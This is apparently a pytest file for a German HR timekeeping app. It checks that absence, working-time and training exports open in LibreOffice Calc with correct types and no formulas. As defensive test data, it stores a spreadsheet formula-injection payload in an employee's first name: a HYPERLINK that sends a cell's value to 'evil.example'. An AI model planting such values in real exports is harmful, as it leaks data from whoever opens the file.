"""The exports as LibreOffice Calc (headless) opens them: numbers and dates arrive as numbers and dates,
umlauts intact, no formula from what people typed (issue 16, part 3). CSV is imported with the German
options HR uses (semicolon, UTF-8, German locale)."""

from __future__ import annotations

from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from timekeeping.leave.models import LeaveType
from timekeeping.leave.services import entitlement_grant, leave_request_create
from timekeeping.travel.models import Training
from timekeeping.worktime.services import time_entry_create

pytestmark = pytest.mark.clients

BERLIN = ZoneInfo("Europe/Berlin")
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Klick")'
ABSENCES = "/abwesenheiten/verwaltung/export/"
PERIOD = {"from": "2026-11-01", "to": "2026-11-30"}


def body(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def hr(client, cast):
    cast.ada.last_name, cast.ada.personnel_number = "Yılmaz", "10019"
    cast.ada.save()
    cast.ben.first_name = EVIL
    cast.ben.save()
    sick = LeaveType.objects.get(code="krankheit")
    for person in (cast.ada, cast.ben):
        entitlement_grant(person=person, year=2026)
        leave_request_create(by=person, leave_type=sick, start=date(2026, 11, 2), end=date(2026, 11, 6),
                             today=date(2026, 11, 2))
    start = datetime(2026, 11, 9, 8, 0, tzinfo=BERLIN)  # after the sick week
    time_entry_create(by=cast.ada, start=start, end=start + timedelta(hours=8, minutes=30),
                      now=datetime(2026, 11, 30, 20, 0, tzinfo=BERLIN))
    Training.objects.create(person=cast.ada, course="=1+1", provider="VHS Darmstadt", start=date(2026, 11, 2),
                            end=date(2026, 11, 2), place="Darmstadt", fee=Decimal("180.50"),
                            travel_costs=Decimal("0"))
    client.force_login(cast.hanna)
    return client


def no_formulas(sheet) -> None:
    assert not [c for row in sheet.rows for c in row if c.formula]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_absence_export(calc, hr, fmt) -> None:
    sheet = calc(body(hr.get(ABSENCES, {**PERIOD, "format": fmt})), fmt)
    assert sheet.rows[0][0].text == "Personalnummer"
    ada = sheet.row_with("Yılmaz")
    assert ada[1].text == "Ada Yılmaz" and ada[3].text == "Krankheit"
    assert (ada[4].kind, ada[4].value) == ("date", "2026-11-02")
    assert (ada[5].kind, ada[5].value) == ("date", "2026-11-06")
    assert (ada[6].kind, ada[6].value) == ("float", "5")
    assert ada[7].kind == "date"  # "AU fällig": the sick note is due
    if fmt == "xlsx":
        assert (ada[0].kind, ada[0].text) == ("string", "10019")  # the personnel number is text
        assert "table:display-filter-buttons" in sheet.xml  # the autofilter arrived
    assert sheet.rows[0][7].text == "AU fällig"
    ben = sheet.row_with("HYPERLINK")
    assert ben[1].kind == "string" and "HYPERLINK" in ben[1].text
    no_formulas(sheet)


def test_sick_days_csv(calc, hr) -> None:
    sheet = calc(body(hr.get(ABSENCES, {**PERIOD, "format": "sick"})), "csv")
    ada = sheet.row_with("Yılmaz")
    assert [(c.kind, c.value) for c in ada[2:4]] == [("float", "1"), ("float", "5")]
    no_formulas(sheet)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_working_time_export(calc, hr, cast, fmt) -> None:
    sheet = calc(body(hr.get("/arbeitszeit/export/", {"month": "2026-11", "unit": cast.sg_a.pk,
                                                      "format": fmt})), fmt)
    monday = next(row for row in sheet.rows if "Yılmaz" in row[1].text and row[3].value == "2026-11-09")
    assert monday[3].kind == "date"
    if fmt == "xlsx":  # the cell's own format (a CSV date is shown in the format of Calc's locale)
        assert monday[3].text == "09.11.2026" and monday[4].text == "7.80"
    assert (monday[4].kind, monday[4].value) == ("float", "7.8")    # target: decimal hours
    assert (monday[5].kind, monday[5].value) == ("float", "8.5")    # worked
    tuesday = next(row for row in sheet.rows if "Yılmaz" in row[1].text and row[3].value == "2026-11-10")
    assert tuesday[8].kind == "float" and float(tuesday[8].value) < 0  # a shortfall: a negative number
    no_formulas(sheet)


def test_training_csv(calc, hr) -> None:
    sheet = calc(body(hr.get("/dienstreisen/fortbildungen/uebersicht/", {"year": 2026, "format": "csv"})), "csv")
    course = sheet.row_with("Yılmaz")
    assert course[3].kind == "string" and "=1+1" in course[3].text  # shown, not computed to 2
    assert (course[5].kind, course[5].value) == ("date", "2026-11-02")
    assert (course[8].kind, course[8].value) == ("float", "180.5")
    no_formulas(sheet)
